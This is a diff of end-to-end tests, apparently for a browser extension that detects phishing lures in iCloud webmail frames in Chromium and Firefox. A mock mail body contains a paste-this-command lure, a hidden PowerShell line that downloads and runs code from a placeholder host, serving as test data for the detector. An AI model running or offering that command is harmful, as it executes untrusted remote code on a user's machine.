@@ -1,6 +1,9 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import type { DemoServer } from '../../demo/server.mjs'
 import { Chromium, readCards, saveScreenshot, waitForListed } from './harness/chromium.ts'
+import { Firefox, readList, waitForText } from './harness/firefox.ts'
 
+const READ = 'Messages on this page'
 const TOP = 'www.icloud.com'
 const SANDBOX = 'www-mail.icloud-sandbox.com'
 const LIST = '/applications/mail2/current/en-us/index.html'
@@ -18,6 +21,15 @@ const BODY_PAGE = `<!doctype html><meta charset="utf-8"><body class="ic-1w42zm0"
 command below and press Enter.</p><pre>powershell -w hidden -c "iwr https://tasks.example/a | iex"</pre>
 <span class="contact-token">Forged Name</span></div></body>`
 
+const TOP_PAGE = `<!doctype html><iframe class="child-application" src="${LIST}"
+ style="width:900px;height:600px"></iframe>`
+
+function servePages({ pages }: DemoServer): void {
+  pages.set(`${TOP}/mail/`, TOP_PAGE)
+  pages.set(`${TOP}${LIST}`, LIST_PAGE)
+  pages.set(`${SANDBOX}${BODY}`, BODY_PAGE)
+}
+
 describe('iCloud, whose mails stand in frames of two origins', () => {
   let run: Chromium
   beforeAll(async () => {
@@ -32,12 +44,7 @@ describe('iCloud, whose mails stand in frames of two origins', () => {
         ],
       }),
     })
-    run.server.pages.set(
-      `${TOP}/mail/`,
-      `<!doctype html><iframe class="child-application" src="${LIST}" style="width:900px;height:600px"></iframe>`,
-    )
-    run.server.pages.set(`${TOP}${LIST}`, LIST_PAGE)
-    run.server.pages.set(`${SANDBOX}${BODY}`, BODY_PAGE)
+    servePages(run.server)
   })
   afterAll(() => run.close())
 
@@ -53,5 +60,21 @@ describe('iCloud, whose mails stand in frames of two origins', () => {
     expect(cards[0]?.level).not.toBe('none')
     await expect.poll(() => run.readBadge(page)).toBe('1')
     await saveScreenshot(page, 'icloud')
+  })
+})
+
+describe('iCloud in Firefox', () => {
+  it('is protected with one click on both its hosts, and its frames are joined', async () => {
+    const run = await Firefox.start({ hosts: [TOP, SANDBOX] })
+    servePages(run.server)
+    const page = await run.open(`https://${TOP}/mail/`)
+    await page.bringToFront()
+    await run.clickToolbarButton()
+    const popup = await run.openPopup(page)
+    await popup.locator('::-p-text(Protect this site)').click()
+    await waitForText(popup, READ, 'Irena Valdis')
+    expect(await readList(popup, READ)).toContain('Your application')
+    expect(await readList(popup, READ)).not.toMatch(/Lure signs: none/)
+    await run.close()
   })
 })
